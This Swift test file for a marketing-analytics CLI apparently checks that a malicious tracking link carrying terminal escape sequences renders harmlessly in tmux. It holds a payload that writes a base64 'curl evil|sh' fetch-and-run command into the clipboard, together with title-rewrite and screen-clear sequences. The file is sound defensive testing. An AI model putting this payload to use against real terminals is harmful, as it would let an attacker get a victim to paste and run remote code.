import Foundation
import Testing
import TmuxHarness

/// Issue 12's attack, end to end: a visitor's crafted link puts an escape sequence in a
/// utm value (`%1B%5D52…` decodes to OSC 52, which writes the clipboard), and the
/// marketer runs utmost in a terminal that honours it (tmux with `set-clipboard on`).
/// Title, screen and paste buffer must stay untouched. A control run prints the same
/// kind of sequence raw and sees tmux obey it, so the checks can fail.
@Suite("#12.1 the OSC 52 attack in tmux", .serialized, .timeLimit(.minutes(2)))
struct AttackTmuxTests {
    static let clipboard = "%1B%5D52%3Bc%3BY3VybCBldmlsfHNo%07"       // ESC ] 52 ; c ; base64("curl evil|sh") BEL
    static let title = "%1B%5D2%3Bpwned-title%07"                     // ESC ] 2 ; pwned-title BEL
    static let clear = "%1B%5B2J%1B%5B3J%1B%5BH"                      // clear screen and history, cursor home
    static let attackURL = "https://www.tallybird.com/pricing?utm_campaign=" + clipboard + title + clear

    /// The sample store plus one page view tagged with the attack.
    func attackedStore() throws -> Scratch {
        let scratch = try Scratch.sample()
        let folder = scratch.folder.appendingPathComponent("attack")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try """
            time,type,visitor_id,contact_id,session_id,url,referrer,asset_id,keyword
            2024-06-01T10:00:00Z,page_view,v-attacker,,,\(Self.attackURL),,,

            """.write(to: folder.appendingPathComponent("events.csv"), atomically: true, encoding: .utf8)
        let imported = try scratch.utmost("import", folder.path)
        guard imported.status == 0 else { throw Failure("import of the attack failed: \(imported)") }
        return scratch
    }

    func paneTitle(_ tmux: TmuxSession) throws -> String {
        try TmuxSession.run(["display-message", "-p", "-t", tmux.name, "#{pane_title}"]).trimmingCharacters(in: .whitespacesAndNewlines)
    }

    func buffers() -> String { (try? TmuxSession.run(["list-buffers", "-F", "#{buffer_sample}"])) ?? "" }

    /// Makes the test server obey OSC 52 as a user's tmux with `set-clipboard on` does, and empties its paste buffers.
    func honourClipboardAndClearBuffers() throws {
        _ = try TmuxSession.run(["set-option", "-s", "set-clipboard", "on"])
        while !buffers().isEmpty { _ = try TmuxSession.run(["delete-buffer"]) }
    }

    /// A session whose script waits for a `go` file: the server option is set before anything is printed.
    func session(_ label: String, script: String) throws -> TmuxSession {
        let tmux = try TmuxSession(label: label, width: 160, height: 250) { folder in
            let url = folder.appendingPathComponent("run.sh")
            try ("#!/usr/bin/env bash\nwhile [ ! -e go ]; do sleep 0.05; done\n" + script + "\necho ATTACK-RUN-DONE\nexec sleep 300\n")
                .write(to: url, atomically: false, encoding: .utf8)
            return "bash \(TmuxSession.quote(url.path))"
        }
        try honourClipboardAndClearBuffers()
        _ = FileManager.default.createFile(atPath: tmux.folder.appendingPathComponent("go").path, contents: nil)
        return tmux
    }

    @Test("#12.1 control: the same sequences printed raw do write tmux's buffer and title")
    func control() throws {
        let tmux = try session("attack-control", script: "printf '\\033]52;c;Y29udHJvbA==\\a\\033]2;control-title\\a'")
        defer { tmux.close() }
        try tmux.waitFor("ATTACK-RUN-DONE")
        #expect(buffers().contains("control"))
        #expect(try paneTitle(tmux) == "control-title")
    }

    @Test("#12.1 report (table and CSV) and explain url: title, screen and paste buffer untouched")
    func commands() throws {
        let scratch = try attackedStore()
        defer { scratch.remove() }
        let binary = TmuxSession.quote(try CLI.binary().path)
        let db = TmuxSession.quote(scratch.db)
        let tmux = try session("attack-cli", script: """
            echo ATTACK-RUN-START
            \(binary) report --db \(db)
            \(binary) report --format csv --db \(db)
            \(binary) explain url \(TmuxSession.quote(Self.attackURL)) --db \(db)
            """)
        defer { tmux.close() }
        let titleBefore = try paneTitle(tmux)
        let screen = try tmux.waitFor("ATTACK-RUN-DONE", timeout: 30)
        #expect(screen.contains("ATTACK-RUN-START"), "the screen was cleared:\n\(screen)")
        #expect(screen.contains("␛]52;c;Y3VybCBldmlsfHNo␇"), "the attack should show as text:\n\(screen)")
        #expect(!buffers().contains("curl"), "the paste buffer: \(buffers())")
        #expect(try paneTitle(tmux) == titleBefore)
    }

    @Test("#12.1 the dashboard's unlinked-utm tab shows the attack as text: title and paste buffer untouched")
    func dashboard() throws {
        let scratch = try attackedStore()
        defer { scratch.remove() }
        let tmux = try TmuxSession(utmost: ["--db", scratch.db], label: "attack-dashboard")
        defer { tmux.close() }
        let titleBefore = try paneTitle(tmux)
        try tmux.waitFor("Campaigns 8", timeout: 30)
        // The attack is drawn only on tab 3, after this.
        try honourClipboardAndClearBuffers()
        try tmux.send("3")
        let screen = try tmux.waitFor("␛]52")
        #expect(!screen.contains("\u{1B}"))
        #expect(!buffers().contains("curl"), "the paste buffer: \(buffers())")
        #expect(try paneTitle(tmux) == titleBefore)
        try tmux.send("q")
        _ = try tmux.waitForExit()
    }
}
